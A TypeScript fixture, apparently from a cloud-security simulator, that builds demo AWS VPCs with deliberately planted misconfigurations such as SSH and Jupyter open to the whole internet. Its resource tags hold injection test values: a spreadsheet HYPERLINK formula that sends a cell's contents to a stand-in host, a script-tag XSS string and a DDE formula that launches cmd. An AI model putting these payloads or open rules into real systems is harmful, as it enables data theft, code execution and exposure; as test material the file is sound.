import { allow, policy } from "#lib/simulator/accounts/build/policies.ts";
import { prefixList } from "#lib/simulator/accounts/build/prefix-list.ts";
import {
  anyProtocol,
  s3PrefixList,
  securityGroup,
  tcp,
  toCidr,
  toGroup,
  toPrefixList,
} from "#lib/simulator/accounts/build/security-group.ts";
import { ec2Id, type Site } from "#lib/simulator/accounts/build/site.ts";
import {
  flowLog,
  internetGateway,
  natGateway,
  networkAcl,
  route,
  routeTable,
  subnet,
  vpc,
} from "#lib/simulator/accounts/build/vpc.ts";
import { gatewayEndpoint, interfaceEndpoint } from "#lib/simulator/accounts/build/vpc-endpoint.ts";
import { company } from "#lib/simulator/accounts/demo/company.ts";
import { networkInterfaces } from "#lib/simulator/shelves/ec2.ts";

/** The VPC that growth and search share: NAT, a few endpoints, all of their policies open. */
export function sharedNetwork(site: Site) {
  const network = vpc(site, {
    name: "nwa-ml-shared",
    cidr: "10.20.0.0/16",
    // EC2 tags take any characters.
    tags: {
      Purpose: '=HYPERLINK("http://192.0.2.66/?leak="&A1,"network map")',
      Contact: "Zoë Müller <ml-infra@northwind-analytics.example>",
    },
  });
  const publicA = subnet(site, network, { name: "shared-public-a", cidr: "10.20.0.0/24", zone: "a", public: true });
  const publicB = subnet(site, network, { name: "shared-public-b", cidr: "10.20.1.0/24", zone: "b", public: true });
  const privateA = subnet(site, network, { name: "shared-private-a", cidr: "10.20.16.0/20", zone: "a" });
  const privateB = subnet(site, network, {
    name: "shared-private-b",
    cidr: "10.20.32.0/20",
    zone: "b",
    tags: { Note: "<script>alert('subnet')</script>" },
  });
  const { InternetGatewayId } = internetGateway(site, network, "shared");
  const { NatGatewayId } = natGateway(site, { name: "shared-a", subnet: publicA, publicIp: "203.0.113.201" });
  const { NatGatewayId: gone } = natGateway(site, {
    name: "shared-b",
    subnet: publicB,
    state: "deleted",
    publicIp: "203.0.113.202",
  });
  routeTable(site, network, {
    name: "shared-public",
    subnets: [publicA, publicB],
    routes: [route({ GatewayId: InternetGatewayId })],
  });
  const main = routeTable(site, network, {
    name: "shared-private",
    main: true,
    subnets: [privateA],
    routes: [route({ NatGatewayId })],
  });
  // Its NAT gateway is gone: the route leads nowhere.
  routeTable(site, network, {
    name: "shared-private-b",
    subnets: [privateB],
    routes: [route({ NatGatewayId: gone, State: "blackhole" })],
  });
  gatewayEndpoint(site, network, { service: "s3", routeTables: [main] });

  // Of the offices once, and of everybody since the vendor's visit.
  const offices = prefixList(site, {
    name: "office-networks",
    version: 2,
    entries: [
      { Cidr: "198.51.100.0/24", Description: "New York" },
      { Cidr: "203.0.113.64/26", Description: "Dublin" },
      { Cidr: "0.0.0.0/0", Description: "vendor visit, remove after friday" },
    ],
  });
  const wideOpen = securityGroup(site, network, {
    name: "growth-notebooks",
    description: "jupyter + ssh from anywhere (temporary!!)",
    inbound: () => [
      tcp(22, 22, toCidr("0.0.0.0/0", "ssh")),
      tcp(8888, 8888, toCidr("0.0.0.0/0", "jupyter")),
      tcp(443, 443, toPrefixList(offices.PrefixListId)),
    ],
    tags: { Team: "growth", Ticket: "@SUM(1+1)*cmd|' /C calc'!A0" },
  });
  // The job it was made for is long gone.
  networkInterfaces.put(site.content, {
    NetworkInterfaceId: ec2Id(site, "eni", "growth left over"),
    Description: "[DO NOT DELETE] ENI managed by SageMaker for TrainingJob growth-churn",
    InterfaceType: "interface",
    OwnerId: site.account,
    RequesterManaged: true,
    Status: "available",
    SourceDestCheck: true,
    PrivateIpAddress: "10.20.21.140",
    SubnetId: privateA.SubnetId,
    VpcId: network.VpcId,
    Groups: [{ GroupId: wideOpen.GroupId, GroupName: "growth-notebooks" }],
    TagSet: [],
  });
  const training = securityGroup(site, network, {
    name: "ml-training",
    inbound: (self) => [anyProtocol(toGroup(self))],
  });
  const endpoints = securityGroup(site, network, {
    name: "shared-endpoints",
    inbound: () => [tcp(443, 443, toCidr("10.20.0.0/16"))],
  });
  securityGroup(site, network, { name: "default", inbound: (self) => [anyProtocol(toGroup(self))] });
  const subnets = [privateA];
  for (const service of ["sagemaker.api", "sts"])
    interfaceEndpoint(site, network, { service, subnets, group: endpoints });
  interfaceEndpoint(site, network, { service: "sagemaker.runtime", subnets, group: endpoints, privateDns: false });
  return { network, publicA, privateA, privateB, wideOpen, training };
}

/** The fraud team's VPC: no way out, but endpoint policies half done and no endpoint for notebooks. */
export function fraudNetwork(site: Site) {
  const network = vpc(site, { name: "nwa-fraud", cidr: "10.30.0.0/16", tags: { Team: "fraud" } });
  const inZone = (zone: "a" | "b", cidr: string) => subnet(site, network, { name: `fraud-${zone}`, cidr, zone });
  const subnets = [inZone("a", "10.30.0.0/22"), inZone("b", "10.30.4.0/22")] as const;
  const main = routeTable(site, network, { name: "fraud-main", main: true, subnets });
  gatewayEndpoint(site, network, { service: "s3", routeTables: [main] });
  const allowed = (RuleNumber: number, Egress: boolean, what: object) => ({
    ...{ RuleNumber, Egress, RuleAction: "allow" as const, ...what },
  });
  const inside = { Protocol: "-1", CidrBlock: network.CidrBlock };
  const web = (From: number, To: number) => ({ Protocol: "6", CidrBlock: "0.0.0.0/0", PortRange: { From, To } });
  networkAcl(site, network, {
    name: "fraud-borders",
    subnets,
    entries: [
      allowed(100, true, inside),
      allowed(100, false, inside),
      allowed(110, true, web(443, 443)),
      allowed(110, false, web(1024, 65_535)),
    ],
  });

  const workload = securityGroup(site, network, {
    name: "fraud-workload",
    inbound: (self) => [anyProtocol(toGroup(self))],
    outbound: (self) => [
      anyProtocol(toGroup(self)),
      tcp(443, 443, toCidr("10.30.0.0/16")),
      tcp(443, 443, toPrefixList(s3PrefixList(site.region))),
    ],
    tags: { Team: "fraud" },
  });
  const endpoints = securityGroup(site, network, {
    name: "fraud-endpoints",
    inbound: () => [tcp(443, 443, toGroup(workload))],
  });
  securityGroup(site, network, { name: "default", inbound: () => [], outbound: () => [] });
  const ownAccount = policy({
    ...allow("*", "*", { StringEquals: { "aws:PrincipalAccount": company.account } }),
    Principal: "*",
  });
  for (const service of ["sagemaker.api", "sagemaker.runtime"]) {
    interfaceEndpoint(site, network, {
      service,
      subnets,
      group: endpoints,
      policy: ownAccount,
      tags: { Team: "fraud" },
    });
  }
  for (const service of ["sts", "logs", "kms", "ecr.api", "ecr.dkr"]) {
    interfaceEndpoint(site, network, { service, subnets, group: endpoints });
  }
  flowLog(site, network, { to: { bucket: "nwa-cloudtrail" }, traffic: "REJECT" });
  return { network, subnets, workload };
}
